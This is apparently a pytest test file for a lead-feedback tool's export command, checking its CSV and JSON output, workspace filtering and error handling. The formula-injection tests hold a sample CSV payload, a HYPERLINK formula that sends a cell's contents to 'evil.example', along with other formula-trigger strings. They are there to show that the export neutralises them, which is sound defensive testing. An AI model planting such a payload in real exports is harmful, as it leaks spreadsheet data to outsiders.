"""``leadloop export`` end to end on a real database, and the CSV/JSON writers (bot/export.py)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest

from bot.cli import main
from bot.export import csv_cell, neutralise_formula, write_csv, write_json
from domain.leads.intake import fold_records, intake_leads
from domain.leads.records import LeadRecord
from storage.campaigns import set_campaign_owner
from storage.engine import SessionFactory
from storage.export import (
    ANSWER_TIME_SETTINGS_COLUMNS,
    CAMPAIGN_OWNER_COLUMNS,
    KPI_TARGET_COLUMNS,
    KPI_VALUE_COLUMNS,
    LEAD_CHANGE_COLUMNS,
    LEAD_COLUMNS,
    RATING_COLUMNS,
    RESPONSE_COLUMNS,
)
from storage.kpis import set_kpi_target, set_kpi_value
from storage.leads import change_score
from storage.ratings import add_rating, get_or_create_lead, record_post
from storage.responses import add_response, mark_response_deleted
from storage.workspaces import change_settings, record_workspace

TEAM = "T0AAA"
OTHER_TEAM = "T0BBB"
NOW = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
# What rate() creates; lead changes come from re-imports (tested on their own).
COLUMNS = {"ratings": RATING_COLUMNS, "responses": RESPONSE_COLUMNS, "leads": LEAD_COLUMNS}


@dataclass(frozen=True)
class Export:
    """What one ``leadloop export`` run returned and printed."""

    exit_code: int
    out: str
    err: str

    def csv_rows(self) -> list[dict[str, str]]:
        """The CSV output as rows keyed by header."""
        return list(csv.DictReader(io.StringIO(self.out)))

    def csv_header(self) -> list[str]:
        """The CSV output's first line."""
        return next(csv.reader(io.StringIO(self.out)))

    def json_rows(self) -> list[dict[str, Any]]:
        """The JSON output."""
        rows = json.loads(self.out)
        assert isinstance(rows, list)
        return rows


@pytest.fixture
def cli_database(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> str:
    """The test database as the CLI's DATABASE_URL, with no developer's .env read."""
    monkeypatch.setenv("LEADLOOP_ENV_FILE", str(tmp_path / "no-such.env"))
    monkeypatch.setenv("DATABASE_URL", database_url)
    return database_url


def export(capsys: pytest.CaptureFixture[str], *args: str) -> Export:
    """Run ``leadloop export ARGS`` in this process."""
    capsys.readouterr()
    exit_code = main(["export", *args])
    captured = capsys.readouterr()
    return Export(exit_code=exit_code, out=captured.out, err=captured.err)


def rate(
    session_factory: SessionFactory,
    *,
    team_id: str = TEAM,
    lead_ref: str = "ACME-1042",
    score: int = 2,
    reason: str = "wrong industry, no budget",
    tags: list[str] | None = None,
    rater_id: str = "URATER",
    created_at: datetime = NOW,
    replies: list[str] | None = None,
) -> int:
    """Store a rating (creating its lead) and its thread replies, committed; the rating's id."""
    with session_factory() as session:
        lead = get_or_create_lead(session, team_id=team_id, external_ref=lead_ref, now=created_at)
        rating = add_rating(
            session,
            team_id=team_id,
            lead=lead,
            rater_id=rater_id,
            score=score,
            reason=reason,
            tags=["no_budget", "wrong_fit"] if tags is None else tags,
            via="command",
            origin_channel="C0ORIGIN",
            now=created_at,
        )
        assert rating.id is not None
        for number, text in enumerate(replies or [], start=1):
            add_response(
                session,
                team_id=team_id,
                rating_id=rating.id,
                user_id="UMARKETER",
                channel="C0FEEDBACK",
                ts=f"1700000000.{rating.id:03d}{number:03d}",
                text=text,
                is_answer=True,
                created_at=created_at + timedelta(minutes=number),
            )
        session.commit()
        return rating.id


# --- the command ----------------------------------------------------------------------


def test_ratings_csv_has_the_export_columns_and_one_row_per_rating(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    first = rate(session_factory)
    with session_factory() as session:
        record_post(
            session, team_id=TEAM, rating_id=first, channel="C0FEEDBACK", ts="1700.1", now=NOW
        )
        session.commit()
    rate(session_factory, lead_ref="GLOBEX-7", score=5, reason="", tags=[])

    result = export(capsys, "ratings")

    assert result.exit_code == 0, result.err
    assert result.csv_header() == list(RATING_COLUMNS)
    first_row, second_row = result.csv_rows()
    assert first_row == {
        "id": str(first),
        "team_id": TEAM,
        "lead_ref": "ACME-1042",
        "score": "2",
        "reason": "wrong industry, no budget",
        "tags": "no_budget;wrong_fit",
        "rater_id": "URATER",
        "via": "command",
        "created_at": "2026-11-02T09:30:00+00:00",
        "post_channel": "C0FEEDBACK",
        "post_ts": "1700.1",
        "lead_id": first_row["lead_id"],
        "replaced_by": "",
        "replaced_at": "",
        "score_changes": "",
    }
    assert (second_row["lead_ref"], second_row["score"], second_row["tags"]) == (
        "GLOBEX-7",
        "5",
        "",
    )
    assert second_row["post_channel"] == second_row["post_ts"] == ""


def test_responses_csv_links_each_reply_to_its_rating_and_lead(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rating_id = rate(session_factory, replies=["Thanks, we'll fix the form", "Done"])

    result = export(capsys, "responses")

    assert result.exit_code == 0, result.err
    assert result.csv_header() == list(RESPONSE_COLUMNS)
    first, second = result.csv_rows()
    assert first["rating_id"] == second["rating_id"] == str(rating_id)
    assert first["lead_ref"] == "ACME-1042"
    assert first["team_id"] == TEAM
    assert first["user_id"] == "UMARKETER"
    assert first["text"] == "Thanks, we'll fix the form"
    assert (first["is_answer"], first["deleted"], first["edited_at"]) == ("true", "false", "")
    assert first["created_at"] == "2026-11-02T09:31:00+00:00"
    assert second["text"] == "Done"


def test_leads_csv_lists_each_lead_once(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, lead_ref="ACME-1042", rater_id="UONE")
    rate(session_factory, lead_ref="ACME-1042", rater_id="UTWO")
    rate(session_factory, lead_ref="GLOBEX-7")

    result = export(capsys, "leads")

    assert result.exit_code == 0, result.err
    assert result.csv_header() == list(LEAD_COLUMNS)
    rows = result.csv_rows()
    assert [row["external_ref"] for row in rows] == ["ACME-1042", "GLOBEX-7"]
    assert rows[0]["team_id"] == TEAM
    assert rows[0]["created_at"] == "2026-11-02T09:30:00+00:00"
    assert rows[0]["name"] == rows[0]["email"] == ""


def test_ratings_name_the_rating_that_replaced_each_one_and_when(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    first = rate(session_factory, rater_id="UONE")
    other_rep = rate(session_factory, rater_id="UTWO", created_at=NOW + timedelta(hours=1))
    second = rate(session_factory, rater_id="UONE", created_at=NOW + timedelta(days=8))
    third = rate(session_factory, rater_id="UONE", created_at=NOW + timedelta(days=9))

    rows = {int(row["id"]): row for row in export(capsys, "ratings").csv_rows()}

    replaced = {
        rating_id: (row["replaced_by"], row["replaced_at"]) for rating_id, row in rows.items()
    }
    assert replaced == {
        first: (str(second), "2026-11-10T09:30:00+00:00"),
        other_rep: ("", ""),
        second: (str(third), "2026-11-11T09:30:00+00:00"),
        third: ("", ""),
    }
    assert len({row["lead_id"] for row in rows.values()}) == 1


def test_ratings_list_the_score_changes_of_a_button_rating_oldest_first(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rating_id = rate(session_factory)
    with session_factory() as session:
        for days, score in ((1, 4), (2, 1)):
            later = NOW + timedelta(days=days)
            change_score(session, team_id=TEAM, rating_id=rating_id, score=score, now=later)
        session.commit()

    [csv_row] = export(capsys, "ratings").csv_rows()
    [json_row] = export(capsys, "ratings", "--format", "json").json_rows()

    changes = ["2026-11-03T09:30:00+00:00 2>4", "2026-11-04T09:30:00+00:00 4>1"]
    assert (csv_row["score"], csv_row["score_changes"]) == ("1", ";".join(changes))
    assert json_row["score_changes"] == changes


def test_responses_say_when_a_reply_was_deleted(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, replies=["Wrong thread", "Kept"])
    deleted_at = NOW + timedelta(days=2)
    with session_factory() as session:
        mark_response_deleted(
            session, team_id=TEAM, channel="C0FEEDBACK", ts="1700000000.001001", now=deleted_at
        )
        session.commit()

    gone, kept = export(capsys, "responses").csv_rows()

    assert (gone["deleted"], gone["deleted_at"]) == ("true", "2026-11-04T09:30:00+00:00")
    assert (kept["deleted"], kept["deleted_at"]) == ("false", "")


def test_leads_carry_their_status_and_when_they_were_handed_off(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, lead_ref="RATED-ONLY")
    decided = NOW + timedelta(days=3)
    with session_factory() as session:
        intake_leads(
            session,
            team_id=TEAM,
            leads=fold_records([LeadRecord("CRM-1", campaign="Webinar", status="won")]),
            now=decided,
        )
        session.commit()

    rated_only, imported = export(capsys, "leads").csv_rows()

    when = "2026-11-05T09:30:00+00:00"
    assert (imported["status"], imported["status_changed_at"]) == ("won", when)
    assert (imported["handed_off_at"], imported["campaign"]) == (when, "Webinar")
    assert (rated_only["status"], rated_only["handed_off_at"]) == ("", "")


def test_lead_changes_list_what_a_reimport_changed_with_the_value_before(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    for days, campaign in ((0, "=Webinar"), (2, "Ads")):
        with session_factory() as session:
            intake_leads(
                session,
                team_id=TEAM,
                leads=fold_records([LeadRecord("CRM-1", campaign=campaign)]),
                now=NOW + timedelta(days=days),
            )
            session.commit()

    result = export(capsys, "lead-changes")

    assert result.csv_header() == list(LEAD_CHANGE_COLUMNS)
    [change] = result.csv_rows()
    assert (change["lead_ref"], change["field"], change["changed_at"]) == (
        "CRM-1",
        "campaign",
        "2026-11-04T09:30:00+00:00",
    )
    assert (change["value_before"], change["value_after"]) == ("'=Webinar", "Ads")


def test_kpis_export_their_weekly_values_and_the_targets_admins_set(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory)  # the workspace has data, so the CLI can choose it
    with session_factory() as session:
        for week, value in (((2026, 45), 12.5), ((2026, 44), 11.0)):
            set_kpi_value(
                session,
                team_id=TEAM,
                metric="conversion_rate",
                week=week,
                value=value,
                set_by="UADMIN",
                now=NOW,
            )
        set_kpi_target(
            session,
            team_id=TEAM,
            metric="conversion_rate",
            kind="relative",
            value=20.0,
            baseline=(2026, 44),
            set_by="UADMIN",
            now=NOW,
        )
        session.commit()

    values = export(capsys, "kpi-values").csv_rows()
    [target] = export(capsys, "kpi-targets", "--format", "json").json_rows()

    assert [(row["metric"], row["week"], row["value"]) for row in values] == [
        ("conversion_rate", "2026-W44", "11.0"),
        ("conversion_rate", "2026-W45", "12.5"),
    ]
    assert list(values[0]) == list(KPI_VALUE_COLUMNS)
    assert (target["kind"], target["value"], target["baseline_week"]) == (
        "relative",
        20.0,
        "2026-W44",
    )
    assert list(target) == list(KPI_TARGET_COLUMNS)


def answer_time_history(session_factory: SessionFactory, *, team_id: str, owner: str) -> None:
    """A workspace recorded at NOW, its ``sla`` changed a day later and ``hours`` two days
    later, and the ``Webinar`` campaign given ``owner`` then taken away, committed."""
    with session_factory() as session:
        record_workspace(session, team_id=team_id, team_name=None, bot_user_id=None, now=NOW)
        change_settings(
            session, team_id=team_id, now=NOW + timedelta(days=1), values={"answer_sla": "2h"}
        )
        change_settings(
            session,
            team_id=team_id,
            now=NOW + timedelta(days=2),
            values={"business_hours": "mon-thu 08:00-16:00"},
        )
        for days, owner_id in ((1, owner), (3, None)):
            set_campaign_owner(
                session,
                team_id=team_id,
                campaign="Webinar",
                owner_id=owner_id,
                by="UADMIN",
                now=NOW + timedelta(days=days),
            )
        session.commit()


def test_answer_time_settings_export_each_whole_configuration_with_its_time(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    answer_time_history(session_factory, team_id=TEAM, owner="UOWNER")

    result = export(capsys, "answer-time-settings")
    [since_json] = export(
        capsys, "answer-time-settings", "--format", "json", "--since", "2026-11-04"
    ).json_rows()

    assert result.exit_code == 0, result.err
    assert result.csv_header() == list(ANSWER_TIME_SETTINGS_COLUMNS)
    assert [
        (row["answer_sla"], row["low_score_sla"], row["business_hours"], row["changed_at"])
        for row in result.csv_rows()
    ] == [
        ("", "", "", "2026-11-02T09:30:00+00:00"),
        ("2h", "", "", "2026-11-03T09:30:00+00:00"),
        ("2h", "", "mon-thu 08:00-16:00", "2026-11-04T09:30:00+00:00"),
    ]
    assert list(since_json) == list(ANSWER_TIME_SETTINGS_COLUMNS)
    assert (since_json["team_id"], since_json["answer_sla"], since_json["timezone"]) == (
        TEAM,
        "2h",
        None,
    )


def test_campaign_owners_export_each_owner_given_and_taken_away(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    answer_time_history(session_factory, team_id=TEAM, owner="UOWNER")

    rows = export(capsys, "campaign-owners", "--format", "json").json_rows()
    since = export(capsys, "campaign-owners", "--since", "2026-11-04").csv_rows()

    assert [list(row) for row in rows] == [list(CAMPAIGN_OWNER_COLUMNS)] * 2
    assert [(row["campaign"], row["owner_id"], row["changed_at"]) for row in rows] == [
        ("webinar", "UOWNER", "2026-11-03T09:30:00+00:00"),
        ("webinar", None, "2026-11-05T09:30:00+00:00"),
    ]
    assert [(row["team_id"], row["owner_id"]) for row in since] == [(TEAM, "")]


@pytest.mark.parametrize("what", ["answer-time-settings", "campaign-owners"])
def test_answer_time_history_exports_only_the_chosen_workspaces_rows(
    what: str,
    cli_database: str,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    answer_time_history(session_factory, team_id=TEAM, owner="UOURS")
    answer_time_history(session_factory, team_id=OTHER_TEAM, owner="UTHEIRS")
    with session_factory() as session:
        change_settings(session, team_id=OTHER_TEAM, now=NOW, values={"answer_sla": "9h"})
        session.commit()

    result = export(capsys, what, "--workspace", TEAM)

    assert result.exit_code == 0, result.err
    assert {row["team_id"] for row in result.csv_rows()} == {TEAM}
    assert OTHER_TEAM not in result.out
    assert "UTHEIRS" not in result.out
    assert "9h" not in result.out


def test_answer_time_history_cells_that_look_like_formulas_are_neutralised_in_csv(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    with session_factory() as session:
        change_settings(session, team_id=TEAM, now=NOW, values={"timezone": "=1+1"})
        set_campaign_owner(
            session, team_id=TEAM, campaign="@SUM(A1)", owner_id="-U1", by="UADMIN", now=NOW
        )
        session.commit()

    [*_, settings] = export(capsys, "answer-time-settings").csv_rows()
    [owner] = export(capsys, "campaign-owners").csv_rows()
    [owner_json] = export(capsys, "campaign-owners", "--format", "json").json_rows()

    assert settings["timezone"] == "'=1+1"
    assert (owner["campaign"], owner["owner_id"]) == ("'@sum(a1)", "'-U1")
    assert (owner_json["campaign"], owner_json["owner_id"]) == ("@sum(a1)", "-U1")


@pytest.mark.parametrize("what", sorted(COLUMNS))
def test_json_is_a_list_of_objects_with_the_export_columns(
    what: str,
    cli_database: str,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    rate(session_factory, replies=["On it"])
    rate(session_factory, lead_ref="GLOBEX-7", replies=["Noted"])

    result = export(capsys, what, "--format", "json")

    assert result.exit_code == 0, result.err
    rows = result.json_rows()
    assert len(rows) == 2
    for row in rows:
        assert list(row) == list(COLUMNS[what])
        assert row["team_id"] == TEAM
        created_at = datetime.fromisoformat(row["created_at"])
        assert row["created_at"].endswith("+00:00")
        assert created_at.utcoffset() == timedelta(0)


def test_json_keeps_native_types(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, replies=["On it"])

    [rating] = export(capsys, "ratings", "--format", "json").json_rows()
    [response] = export(capsys, "responses", "--format", "json").json_rows()

    assert rating["score"] == 2
    assert rating["tags"] == ["no_budget", "wrong_fit"]
    assert rating["post_channel"] is None
    assert response["is_answer"] is True
    assert response["deleted"] is False


def test_formula_cells_are_neutralised_in_csv_but_unchanged_in_json(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    reason = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    rate(
        session_factory,
        lead_ref="@SUM(1)",
        reason=reason,
        tags=["-2+3"],
        replies=["+1 call them", "-done", "plain answer"],
    )

    [rating_row] = export(capsys, "ratings").csv_rows()
    response_rows = export(capsys, "responses").csv_rows()
    [lead_row] = export(capsys, "leads").csv_rows()
    [rating_json] = export(capsys, "ratings", "--format", "json").json_rows()
    responses_json = export(capsys, "responses", "--format", "json").json_rows()

    assert rating_row["reason"] == "'" + reason
    assert rating_row["lead_ref"] == "'@SUM(1)"
    assert rating_row["tags"] == "'-2+3"
    assert [row["text"] for row in response_rows] == ["'+1 call them", "'-done", "plain answer"]
    assert response_rows[0]["lead_ref"] == "'@SUM(1)"
    assert lead_row["external_ref"] == "'@SUM(1)"
    assert rating_json["reason"] == reason
    assert rating_json["lead_ref"] == "@SUM(1)"
    assert rating_json["tags"] == ["-2+3"]
    assert [row["text"] for row in responses_json] == ["+1 call them", "-done", "plain answer"]


@pytest.mark.parametrize(
    ("what", "key", "expected"),
    [
        ("ratings", "lead_ref", ["ON-THE-DAY", "AFTER"]),
        ("leads", "external_ref", ["ON-THE-DAY", "AFTER"]),
        ("responses", "text", ["reply ON-THE-DAY", "reply AFTER"]),
    ],
)
def test_since_keeps_rows_created_on_or_after_that_day(
    what: str,
    key: str,
    expected: list[str],
    cli_database: str,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for lead_ref, created_at in [
        ("BEFORE", datetime(2026, 10, 31, 23, 58, tzinfo=UTC)),
        ("ON-THE-DAY", datetime(2026, 11, 1, 0, 0, tzinfo=UTC)),
        ("AFTER", datetime(2026, 11, 5, 12, 0, tzinfo=UTC)),
    ]:
        # Each reply comes a minute after its rating: still on the same side of midnight.
        rate(
            session_factory, lead_ref=lead_ref, created_at=created_at, replies=[f"reply {lead_ref}"]
        )

    csv_result = export(capsys, what, "--since", "2026-11-01")
    json_result = export(capsys, what, "--since", "2026-11-01", "--format", "json")

    assert csv_result.exit_code == 0, csv_result.err
    assert [row[key] for row in csv_result.csv_rows()] == expected
    assert [row[key] for row in json_result.json_rows()] == expected


@pytest.mark.parametrize("since", ["yesterday", "2026-13-01", "01/11/2026", "2026-11-01T25:00"])
def test_bad_since_exits_2_with_a_friendly_message(
    since: str,
    cli_database: str,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    rate(session_factory)

    result = export(capsys, "ratings", "--since", since)

    assert result.exit_code == 2
    assert result.out == ""
    [line] = result.err.splitlines()
    assert "--since" in line
    assert since in line
    assert "YYYY-MM-DD" in line
    assert "Traceback" not in result.err


def test_two_workspaces_without_workspace_option_exit_2_listing_both(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, team_id=TEAM)
    rate(session_factory, team_id=OTHER_TEAM)

    result = export(capsys, "ratings")

    assert result.exit_code == 2
    assert result.out == ""
    assert "--workspace" in result.err
    assert TEAM in result.err
    assert OTHER_TEAM in result.err


@pytest.mark.parametrize("what", sorted(COLUMNS))
@pytest.mark.parametrize("output_format", ["csv", "json"])
def test_workspace_option_exports_only_that_workspaces_rows(
    what: str,
    output_format: str,
    cli_database: str,
    session_factory: SessionFactory,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # The same lead reference in both workspaces: the rows must still not mix.
    rate(session_factory, team_id=TEAM, lead_ref="ACME-1042", reason="ours", replies=["our reply"])
    rate(
        session_factory,
        team_id=OTHER_TEAM,
        lead_ref="ACME-1042",
        reason="theirs",
        replies=["their reply"],
    )
    rate(session_factory, team_id=OTHER_TEAM, lead_ref="INITECH-9", replies=["their reply 2"])

    result = export(capsys, what, "--workspace", TEAM, "--format", output_format)

    assert result.exit_code == 0, result.err
    rows = result.csv_rows() if output_format == "csv" else result.json_rows()
    assert len(rows) == 1
    assert rows[0]["team_id"] == TEAM
    assert OTHER_TEAM not in result.out
    assert "theirs" not in result.out
    assert "their reply" not in result.out
    assert "INITECH-9" not in result.out


@pytest.mark.parametrize("what", ["ratings", "responses", "leads"])
def test_an_empty_database_exports_a_header_only_csv_and_exits_0(
    cli_database: str, capsys: pytest.CaptureFixture[str], what: str
) -> None:
    result = export(capsys, what)

    assert result.exit_code == 0, result.err
    assert result.csv_rows() == []
    assert result.csv_header()[0] == "id"
    assert result.err == ""


def test_an_empty_database_exports_an_empty_json_list_and_exits_0(
    cli_database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    result = export(capsys, "ratings", "--format", "json")

    assert result.exit_code == 0, result.err
    assert result.json_rows() == []


def test_an_unknown_workspace_is_named_on_stderr_with_the_ones_stored(
    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
) -> None:
    rate(session_factory, team_id=TEAM)

    result = export(capsys, "ratings", "--workspace", "T0NOSUCH")

    assert result.exit_code == 2
    assert result.out == ""
    [line] = result.err.splitlines()
    assert "T0NOSUCH" in line and TEAM in line
    assert "Traceback" not in result.err


def test_an_export_piped_into_a_reader_that_stops_early_ends_without_a_traceback(
    cli_database: str, session_factory: SessionFactory, tmp_path: Path
) -> None:
    for number in range(300):
        rate(session_factory, lead_ref=f"ACME-{number}")
    env = {**os.environ, "DATABASE_URL": cli_database, "LEADLOOP_ENV_FILE": os.devnull}
    pipeline = subprocess.run(
        ["bash", "-c", f"{sys.executable} -m bot export ratings | head -n 2"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )

    assert len(pipeline.stdout.splitlines()) == 2
    assert "Traceback" not in pipeline.stderr
    assert "BrokenPipe" not in pipeline.stderr


# --- the writers ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")']
)
def test_neutralise_formula_prefixes_an_apostrophe_to_formula_triggers(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["", "ACME-1042", "1+1", "a=b", "'already", " =1", "€5"])
def test_neutralise_formula_leaves_other_text_alone(text: str) -> None:
    assert neutralise_formula(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (42, "42"),
        ("plain", "plain"),
        ("=1+1", "'=1+1"),
        (["no_budget", "wrong_fit"], "no_budget;wrong_fit"),
        (("-x", "y"), "'-x;y"),
        ([], ""),
        (datetime(2026, 11, 2, 9, 30, tzinfo=UTC), "2026-11-02T09:30:00+00:00"),
        (
            datetime(2026, 11, 2, 10, 30, tzinfo=timezone(timedelta(hours=1))),
            "2026-11-02T09:30:00+00:00",
        ),
    ],
)
def test_csv_cell_renders_each_kind_of_value(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_write_json_of_no_rows_is_an_empty_json_list() -> None:
    out = io.StringIO()

    assert write_json([], out) == 0
    assert json.loads(out.getvalue()) == []


def test_write_json_writes_times_in_utc_and_keeps_formulas() -> None:
    out = io.StringIO()
    berlin_time = datetime(2026, 11, 2, 10, 30, tzinfo=timezone(timedelta(hours=1)))
    rows = ({"id": n, "reason": "=1+1", "created_at": berlin_time} for n in (1, 2))

    assert write_json(rows, out) == 2
    assert json.loads(out.getvalue()) == [
        {"id": 1, "reason": "=1+1", "created_at": "2026-11-02T09:30:00+00:00"},
        {"id": 2, "reason": "=1+1", "created_at": "2026-11-02T09:30:00+00:00"},
    ]


def test_write_csv_quotes_commas_newlines_and_quotes_so_they_round_trip() -> None:
    out = io.StringIO()
    tricky = 'a, "quoted"\nsecond line'

    assert write_csv([{"id": 1, "text": tricky}], ("id", "text"), out) == 1
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "text"], ["1", tricky]]


def test_export_from_a_database_file_that_does_not_exist_creates_nothing(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nowhere" / "leadloop.db"
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{missing}")

    assert main(["export", "ratings"]) == 1

    assert "there is no database at" in capsys.readouterr().err
    assert not missing.parent.exists()
